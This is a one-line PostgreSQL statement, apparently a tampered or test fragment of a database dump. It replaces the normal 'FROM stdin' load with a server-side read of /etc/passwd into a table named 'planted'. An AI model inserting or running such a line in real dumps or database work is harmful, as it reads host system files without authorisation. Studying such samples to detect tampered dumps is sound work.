COPY public.planted FROM '/etc/passwd' -- FROM stdin
;
